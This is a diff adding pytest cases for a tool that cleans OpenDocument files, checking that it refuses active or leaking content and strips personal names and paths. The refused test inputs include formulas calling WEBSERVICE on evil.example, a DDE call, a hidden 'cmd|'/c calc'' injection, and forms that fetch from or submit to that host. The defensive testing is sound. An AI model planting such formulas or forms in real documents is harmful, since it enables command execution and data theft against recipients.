@@ -17,6 +17,10 @@ SPACES = " ".join(
         "dc": "http://purl.org/dc/elements/1.1/",
         "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
         "xlink": "http://www.w3.org/1999/xlink",
+        "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
+        "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
+        "xforms": "http://www.w3.org/2002/xforms",
+        "loext": "urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0",
         "officeooo": "http://openoffice.org/2009/office",
     }.items()
 )
@@ -110,7 +114,7 @@ def test_what_runs_is_refused(inside: str) -> None:
     [
         'of:=WEBSERVICE("https://evil.example/")',
         'of:=DDE("soffice";"a";"b")',
-        "of:='file:///home/a.ods'#$S.A1",
+        "of:='file://evil.example/a.ods'#$S.A1",
     ],
 )
 def test_formulas_that_fetch_are_refused(formula: str) -> None:
@@ -149,3 +153,73 @@ def test_signed_ones_and_such_with_entities_are_refused() -> None:
     assert "is signed" in refused("report.odt", odt(**{"META-INF/documentsignatures.xml": "<a/>"}))
     bomb = '<!DOCTYPE a [<!ENTITY a "aaaa">]><a>&a;</a>'
     assert "hides" in refused("report.odt", opendocument(**{"content.xml": bomb}))
+
+
+@pytest.mark.parametrize("values", ["{1;2|3;4}", "{1|2}", '{"a"|"b"}', "{1;-2|3;4}+{1|2}"])
+def test_tables_of_values_in_a_formula_start_no_program(values: str) -> None:
+    """LibreOffice parts their rows by the sign that parts a program from what is asked of it."""
+    formula = f"of:=SUM({values})".replace('"', "&quot;")
+    taken("report.odt", odt(f'<table:table-cell table:formula="{formula}"/>'))
+    hidden = "of:={1;2|3;4}+cmd|'/c calc'!A0"
+    assert "cmd" in refused("report.odt", odt(f'<table:table-cell table:formula="{hidden}"/>'))
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        f"<loext:sender-initials>{CANARY}</loext:sender-initials>",
+        f"<text:sender-lastname>{CANARY}</text:sender-lastname>",
+        f"<text:sender-email>{CANARY}</text:sender-email>",
+        f'<text:file-name text:display="full">/home/{CANARY}/a.odt</text:file-name>',
+        f'<text:file-name text:display="path">file:///C:/Users/{CANARY}/</text:file-name>',
+        f"<draw:frame><svg:desc>C:\\Users\\{CANARY}\\a.jpg</svg:desc></draw:frame>",
+        f"<draw:frame><svg:title>/media/{CANARY}/a.jpg</svg:title></draw:frame>",
+    ],
+)
+def test_names_and_paths_in_texts_go(inside: str) -> None:
+    found = taken("report.odt", odt(inside)).content
+    assert CANARY.encode() not in everything(found)
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        '<text:file-name text:display="name-and-extension">a.odt</text:file-name>',
+        "<draw:frame><svg:desc>Children in a school / yard</svg:desc></draw:frame>",
+        '<form:button form:image-data="Pictures/a.png"/>',
+        '<xforms:instance src="#a"/>',
+        '<xforms:instance src=""/>',
+    ],
+)
+def test_descriptions_and_what_is_inside_stay(inside: str) -> None:
+    found = unpacked(taken("report.odt", odt(inside, **{"Pictures/a.png": picture("PNG")})).content)
+    assert found["content.xml"].decode() == content_of(inside)
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        '<form:button form:image-data="https://evil.example/a.png"/>',
+        '<xforms:instance src="https://evil.example/a.xml"/>',
+        '<xforms:submission action="https://evil.example/"/>',
+        '<xforms:submission resource="https://evil.example/"/>',
+    ],
+)
+def test_forms_that_fetch_or_send_are_refused(inside: str) -> None:
+    assert "https://evil.example/" in refused("report.odt", odt(inside))
+
+
+def test_a_picture_written_as_text_is_refused() -> None:
+    """Nothing would take out what it tells of place and camera."""
+    inside = "<draw:image><office:binary-data>/9j/4AAQ</office:binary-data></draw:image>"
+    assert "hides what it holds" in refused("report.odt", odt(inside))
+
+
+def test_no_part_of_the_file_stands_for_the_web() -> None:
+    address = "http://evil.example/a.png"
+    link = f'<draw:image xlink:href="{address}"/>'
+    refused("report.odt", odt(link))
+    for part in ("http:/evil.example/a.png", "http:/evil.example/b.png", "a:b.xml"):
+        refused("report.odt", odt(link, **{part: picture("PNG")}))
+    for name in ("http:/evil.example/a.png", "a:b.png"):
+        assert name in refused("report.odt", odt(**{name: picture("PNG")}))
